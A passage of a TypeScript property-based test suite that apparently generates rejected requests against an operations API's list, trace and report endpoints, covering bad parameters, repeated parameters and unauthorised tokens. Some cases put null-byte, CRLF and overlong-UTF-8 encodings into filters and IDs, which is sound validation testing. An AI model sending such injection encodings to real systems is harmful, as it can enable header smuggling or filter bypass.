  fc.tuple(fc.constantFrom(...RECONCILIATION), fc.nat(), fc.string({ maxLength: 8 })).map(([p, i, v]) => {
    const name = RECONCILIATION_PARAMS[i % RECONCILIATION_PARAMS.length];
    return { name: `${p} with ${name} twice`, sent: ops(q(p, [...withParam(name, v), [name, v]])), status: 400, paths: new RegExp(`^/${name}$`) };
  }),
  fc.tuple(fc.constantFrom(...RECONCILIATION), fc.constantFrom<[string | null, number]>([null, 401], ['not-a-token', 401], [TOKENS.hr, 403], [TOKENS.metrics, 403])).map(([p, [t, status]]) => ({ name: `${p} as ${t ?? 'nobody'}`, sent: ops(q(p, WINDOW), t), status })),
);

/** Bad filters, limits, cursors and repeated parameters on every ops list, and bad reads of one event's trace. */
export const opsCases: fc.Arbitrary<Case> = fc.oneof(
  reconciliationCases,
  fc.tuple(fc.constantFrom(...OPS_LISTS), fc.constantFrom('from', 'to'), badTimestamp).map(([p, k, v]) => ({ name: `${p}?${k}=${JSON.stringify(v)}`, sent: ops(q(p, [[k, v]])), status: 400, paths: new RegExp(`^/${k}$`) })),
  fc.tuple(fc.constantFrom('/v1/dead-letters', '/v1/dead-letters/groups'), badState).map(([p, v]) => ({ name: `${p}?state=${JSON.stringify(v)}`, sent: ops(q(p, [['state', v]])), status: 400, paths: /^\/state$/ })),
  fc.tuple(fc.constantFrom('/v1/dead-letters', '/v1/audit'), badLimit).map(([p, v]) => ({ name: `${p}?limit=${JSON.stringify(v)}`, sent: ops(q(p, [['limit', v]])), status: 400, paths: /^\/limit$/ })),
  fc.tuple(fc.constantFrom('/v1/dead-letters', '/v1/audit'), badCursor).map(([p, v]) => ({ name: `${p}?after=${v}`, sent: ops(q(p, [['after', v]])), status: 400, paths: /^\/after$/ })),
  fc.tuple(fc.constantFrom(...OPS_LISTS), fc.nat(), fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 })).map(([p, i, a, b]) => {
    const name = paramsOf(p)[i % paramsOf(p).length];
    return { name: `${p} with ${name} twice`, sent: ops(q(p, [[name, a], [name, b]])), status: 400, paths: new RegExp(`^/${name}$`) };
  }),
  fc.tuple(fc.constantFrom(...OPS_LISTS), fc.constantFrom('%00', '%0D%0A', '%1B', '%ZZ', '%E0%A4%A', '%C0%AF'), fc.nat()).map(([p, raw, i]) => ({ name: `${p} with ${raw} in a filter`, sent: ops(`${p}?${paramsOf(p)[i % paramsOf(p).length]}=a${raw}`), status: 400 })),
  fc.tuple(fc.constantFrom('source', 'tenant'), fc.string({ maxLength: 10 }), fc.string({ maxLength: 10 })).map(([k, a, b]) => ({ name: `GET /v1/events/{id} with ${k} twice`, sent: ops(q('/v1/events/evt-1', [[k, a], [k, b]])), status: 400, paths: new RegExp(`^/${k}$`) })),
  fc.constantFrom('%00', 'a%0Ab', '%ZZ', '%C0%AF', '%ED%A0%80').map((id) => ({ name: `GET /v1/events/${id}`, sent: ops(`/v1/events/${id}`), status: 400 })),
  fc.stringMatching(/^[A-Za-z0-9._~-]{1,60}$/).map((id) => ({ name: `GET /v1/events/${id}, which no one posted`, sent: ops(`/v1/events/${id}?source=urn:x`), status: 404 })),
  fc.tuple(fc.constantFrom(...OPS_LISTS), fc.constantFrom<[string | null, number]>([null, 401], ['not-a-token', 401], [TOKENS.hr, 403], [TOKENS.metrics, 403])).map(([p, [t, status]]) => ({ name: `${p} as ${t ?? 'nobody'}`, sent: ops(p, t), status })),
  // A source system may trace its own events (none here: 404); a scrape credential may not.
  fc.constantFrom<[string | null, number]>([null, 401], ['not-a-token', 401], [TOKENS.metrics, 403], [TOKENS.hr, 404]).map(([t, status]) => ({ name: `/v1/events/evt-1 as ${t ?? 'nobody'}`, sent: ops('/v1/events/evt-1', t), status })),
  fc.constantFrom('/v1/dead-letters/not-an-id', '/v1/dead-letters/payroll-fen.zzzz').map((p) => ({ name: `GET ${p}`, sent: ops(p), status: 404 })),
  // A parallel run's report: days that are not days, a bad role on dead letters, and who may ask.
  fc.tuple(fc.constantFrom('from', 'to'), badTimestamp).map(([k, v]) => ({ name: `/v1/parallel-runs/report?${k}=${JSON.stringify(v)}`, sent: ops(q('/v1/parallel-runs/report', [['tenant', 'fen'], ['domain', 'hr'], [k, v]])), status: 400, paths: new RegExp(`^/${k}$`) })),
  fc.tuple(fc.constantFrom('tenant', 'domain'), fc.string({ minLength: 1, maxLength: 12 }).filter((s) => !/^[a-z][a-z0-9-]*$/.test(s))).map(([k, v]) => ({ name: `/v1/parallel-runs/report?${k}=${JSON.stringify(v)}`, sent: ops(q('/v1/parallel-runs/report', [['tenant', 'fen'], ['domain', 'hr']].map(([a, b]) => [a, a === k ? v : b]) as [string, string][])), status: 400, paths: new RegExp(`^/${k}$`) })),
  fc.tuple(fc.constantFrom('/v1/dead-letters', '/v1/dead-letters/groups'), fc.string({ maxLength: 10 }).filter((s) => s !== '' && s !== 'primary' && s !== 'shadow')).map(([p, v]) => ({ name: `${p}?role=${JSON.stringify(v)}`, sent: ops(q(p, [['role', v]])), status: 400, paths: /^\/role$/ })),
  fc.constantFrom<[string | null, number]>([null, 401], ['not-a-token', 401], [TOKENS.hr, 403], [TOKENS.metrics, 403], [TOKENS.opsViewer, 404]).map(([t, status]) => ({ name: `/v1/parallel-runs/report of a run that does not exist as ${t ?? 'nobody'}`, sent: ops('/v1/parallel-runs/report?tenant=fen&domain=hr', t), status })),
);
